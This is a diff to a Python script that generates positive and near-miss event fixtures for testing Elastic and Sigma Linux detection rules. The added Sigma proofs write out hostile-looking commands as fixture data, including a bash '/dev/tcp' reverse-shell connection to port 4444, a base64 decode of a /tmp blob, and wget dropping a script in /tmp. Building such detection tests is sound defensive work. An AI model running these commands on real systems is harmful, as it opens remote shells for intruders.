@@ -1,7 +1,8 @@
 #!/usr/bin/env python3
 """Write the event fixtures of tests/corpus-proofs/ (run from anywhere).
 
-Each proof is a corpus rule (../shared/corpus/CORPUS/NAME.toml) and two
+Each proof is a corpus rule (../shared/corpus/CORPUS/NAME.toml, or a
+Sigma .yml anywhere under its corpus directory) and two
 fixtures written from that rule's query: NAME.pos.jsonl, the events the
 rule describes, which must raise exactly one alert, and NAME.neg.jsonl,
 a near miss (the same events with the one field the rule turns on
@@ -16,7 +17,7 @@ import json
 import os
 import sys
 
-OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "elastic-linux-eql")
+HERE = os.path.dirname(os.path.abspath(__file__))
 HOST = {"name": "proof-01", "id": "5f1c0a9e2b7d4c8e9a3f6b1d2c4e8a70"}
 PUBLIC = "93.184.216.34"        # routable, outside every excluded range
 
@@ -79,9 +80,9 @@ def with_(event, **changes):
 PROOFS = {}
 
 
-def proof(name):
+def proof(name, corpus="elastic-linux-eql"):
     def reg(fn):
-        PROOFS[name] = fn
+        PROOFS[name] = (corpus, fn)
         return fn
     return reg
 
@@ -348,15 +349,45 @@ def _():
     return [c], [with_(c, **{"destination.port": 10251})]
 
 
+# ---- Sigma ----------------------------------------------------------------
+
+@proof("file_event_lnx_wget_download_file_in_tmp_dir", "sigma-linux")
+def _():
+    # Near miss: wget writes to the user's home, not /tmp.
+    return one_file(6801, "/usr/bin/wget", "creation", "/tmp/x.sh", "/root/x.sh", uid=0)
+
+
+@proof("file_event_lnx_susp_cron_file_created", "sigma-linux")
+def _():
+    # Near miss: /etc/cron.daily/apt (the filter of legitimate files).
+    return one_file(6901, "/usr/bin/cp", "creation", "/etc/cron.daily/update",
+                    "/etc/cron.daily/apt", uid=0)
+
+
+@proof("net_connection_lnx_back_connect_shell_dev", "sigma-linux")
+def _():
+    # bash connects out (/dev/tcp). Near miss: to 127.0.0.1 (filtered).
+    p = proc(7001, "/usr/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/%s/4444" % PUBLIC], 7000)
+    return [connect(0, p, PUBLIC, 4444)], [connect(0, p, "127.0.0.1", 4444)]
+
+
+@proof("proc_creation_lnx_base64_decode", "sigma-linux")
+def _():
+    # Near miss: base64 encodes (no -d in its command line).
+    return one_exec(7101, "/usr/bin/base64", ["base64", "-d", "/tmp/blob"],
+                    neg_args=["base64", "-w0", "/tmp/blob"])
+
+
 def main():
-    os.makedirs(OUT, exist_ok=True)
-    for name, fn in sorted(PROOFS.items()):
+    for name, (corpus, fn) in sorted(PROOFS.items()):
+        out = os.path.join(HERE, corpus)
+        os.makedirs(out, exist_ok=True)
         pos, neg = fn()
         for kind, events in (("pos", pos), ("neg", neg)):
-            with open(os.path.join(OUT, "%s.%s.jsonl" % (name, kind)), "w") as f:
+            with open(os.path.join(out, "%s.%s.jsonl" % (name, kind)), "w") as f:
                 for e in events:
                     f.write(json.dumps(e, separators=(",", ":")) + "\n")
-    print("%d proofs written to %s" % (len(PROOFS), OUT))
+    print("%d proofs written under %s" % (len(PROOFS), HERE))
 
 
 if __name__ == "__main__":
